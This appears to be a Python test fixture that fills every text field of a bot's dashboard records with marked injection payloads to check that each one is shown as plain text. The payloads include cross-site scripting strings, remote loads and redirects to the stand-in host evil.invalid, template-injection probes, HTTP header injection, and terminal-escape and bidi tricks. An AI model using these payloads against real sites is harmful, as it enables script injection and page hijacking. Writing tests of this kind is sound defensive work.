"""Hostile text for every field: each payload carries a mark of its own, so that what it did can be told."""

from collections.abc import Iterator

from msgspec.structs import replace

from bot.core.records import Evidence, Reading
from bot.core.world import World
from tests.golden import rooms

FAR = "http://evil.invalid"
FAMILIES = {  # {m} is the mark; what runs says it in a dialog and asks for it elsewhere
    "script": "<script>alert('{m}')</script><ScRiPt src=//evil.invalid/{m}></sCrIpT>",
    "handler": "<img src=x onerror=alert('{m}')><body onload=alert('{m}')><details open ontoggle=alert('{m}')>",
    "svg": "<svg/onload=alert('{m}')><svg><script>alert('{m}')</script><foreignObject><iframe src='" + FAR + "/{m}'>",
    "closing": "</textarea></title></pre></code></table></dialog>--></template>]]><script>alert('{m}')</script><!--",
    "quotes": "\"' autofocus onfocus=alert('{m}') x=\" ' onmouseover=alert('{m}') style=background:url(//evil.invalid)",
    "address": "javascript:alert('{m}') [x](javascript:alert('{m}')) <a href=javascript:alert('{m}')>x</a> //e.invalid",
    "loads": "<img src=" + FAR + "/{m}><link rel=stylesheet href=" + FAR + "/{m}><iframe src=" + FAR + "/{m}></iframe>",
    "style": "<style>@import '" + FAR + "/{m}'; * {{ display: none }}</style><p style=position:fixed;inset:0>{m}</p>",
    "frame": "<base href=" + FAR + "/><meta http-equiv=refresh content='0;url=" + FAR + "/{m}'><form action=//{m}>",
    "template": "{{{{ ''.__class__ }}}} {{% raw %}} ${{alert('{m}')}} #{{7*7}} <%= {m} %>",
    "stream": "{m}\ndata: {{\"all\":true}}\n\nevent: hello\nid: 1\r\n\r\nHTTP/1.1 200 OK\r\nX-{m}: 1",
    "hidden": "\x1b]8;;" + FAR + "/{m}\x07{m}\x1b[2J\u202egnp.{m}\u202c\u200b\x00",
    "encoded": "&#60;script&#62;alert('{m}')&#60;/script&#62; %3Cscript%3Ealert('{m}')%3C/script%3E \\u003cb\\u003e{m}",
}  # fmt: skip


class Corpus:
    """Gives each field a text that holds every family, and knows their marks."""

    def __init__(self) -> None:
        self.fields: list[str] = []

    def __call__(self, field: str) -> str:
        if field not in self.fields:
            self.fields.append(field)
        return " ".join(text.format(m=mark(field, family)) for family, text in FAMILIES.items())

    def table(self, shown: str) -> dict[str, dict[str, bool]]:
        """Whether each mark stands in the text of some page."""
        return {field: {family: mark(field, family) in shown for family in FAMILIES} for field in self.fields}


def mark(field: str, family: str) -> str:
    return f"{field.replace(' ', '')}Z{family}"


def hostile(evil: Corpus) -> World:
    """The sample afternoon in which every text that people, agents, files or tools give is hostile."""
    world = rooms.changed()
    book = world.book("s3")
    for task in (book.tasks["t7"], book.tasks["t8"], book.tasks["t10"], book.tasks["t15"]):
        spec = replace(
            task.spec, title=evil("task title"), outcome=evil("outcome"), run=evil("command line"),
            criteria=tuple(replace(c, text=evil("criterion"), check=evil("check")) for c in task.spec.criteria),
        )  # fmt: skip
        verdicts = {k: replace(v, detail=evil("verdict"), by=evil("judge")) for k, v in task.verdicts.items()}
        world.put(replace(task, spec=spec, reason=evil("reason"), handoff=evil("handoff"), verdicts=verdicts,
                          decisions=(evil("decision"),)))  # fmt: skip
    for attempt in (book.attempts["a11"], book.attempts["a13"], book.attempts["a14"]):
        world.put(replace(attempt, last=evil("last act"), tail=evil("tail"), stuck=evil("stuck"),
                          runner=evil("runner name"), files=(evil("file name"),)))  # fmt: skip
    for row in list(book.checkpoints.values()):
        ways = tuple(replace(c, label=evil("button"), effect=evil("effect")) for c in row.choices)
        facts = {evil("fact name"): evil("fact"), "output": evil("command output"), "commit": evil("commit message")}
        world.put(replace(row, title=evil("question"), text=evil("question text"), recommend=evil("recommendation"),
                          choices=ways, facts=facts))  # fmt: skip
    for proof in list(book.evidence.values()):
        text = evil("evidence") if proof.kind != "diff" else diff(evil)
        world.put(replace(proof, text=text, command=evil("gate"), path=evil("evidence path")))
    world.put(Evidence(key="s3.e20", task="t8", attempt="a14", kind="file", path="x.svg", text=evil("svg file")))
    for kind in ("findings", "discoveries", "deviations", "tells"):
        for found in list(getattr(book, kind).values()):
            world.put(replace(found, text=evil(kind)))
    for found in list(world.rows["reading"].values()):
        if isinstance(found, Reading):
            key = found.key.replace("terminal", "room")
            world.put(replace(found, key=key, commands=(evil("reading"),), unread=(evil("unread line"),)))
    for plan in list(book.plans.values()):
        spec = replace(plan.spec, title=evil("plan title"), goal=evil("goal"),
                       tasks=tuple(replace(t, title=evil("planned title")) if t.id in ("t7", "t8") else t
                                     for t in plan.spec.tasks))  # fmt: skip
        world.put(replace(plan, why=evil("plan why"), spec=spec))
    world.put(replace(book.swarm, title=evil("swarm title"), reason=evil("swarm reason")))
    return world


def diff(evil: Corpus) -> str:
    flat = {name: evil(name).replace("\n", " ").replace("\r", " ") for name in ("diff file", "diff line", "hunk")}
    return (f"diff --git a/x b/x\n--- a/{flat['diff file']}\n+++ b/{flat['diff file']}\n@@ -1 +1 @@ {flat['hunk']}\n"
            f"-{flat['diff line']}\n+{flat['diff line']}\n")  # fmt: skip


def told(table: dict[str, dict[str, bool]]) -> Iterator[str]:
    """The table in lines: ✓ shown as text, · not on a page (cut short, or not shown at all)."""
    yield f"{'field':<18}" + "".join(f"{family:<9}" for family in FAMILIES)
    for field, row in table.items():
        yield f"{field:<18}" + "".join(f"{'✓' if shown else '·':<9}" for shown in row.values())


